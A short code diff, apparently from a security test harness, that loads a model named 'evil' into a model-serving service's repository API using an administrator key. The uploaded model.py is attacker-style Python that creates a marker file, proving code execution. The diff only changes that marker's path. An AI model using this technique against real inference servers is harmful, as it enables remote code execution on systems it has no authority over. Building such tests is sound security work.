@@ -129,7 +129,7 @@ def load_with_files(service: Service) -> str:
     """Load a model of the attacker's code, even with the administrator's key."""
     request = pb.RepositoryModelLoadRequest(model_name="evil")
     request.parameters["config"].string_param = '{"backend": "python", "max_batch_size": 0}'
-    request.parameters["file:1/model.py"].bytes_param = b"import os; os.mknod('/tmp/evil')"
+    request.parameters["file:1/model.py"].bytes_param = b"import os; os.mknod('evil')"
     key = access.key_of(service.grpc_url)
     return call(service, "RepositoryModelLoad", request.SerializeToString(), [(access.ADMIN_HEADER, str(key))])
 
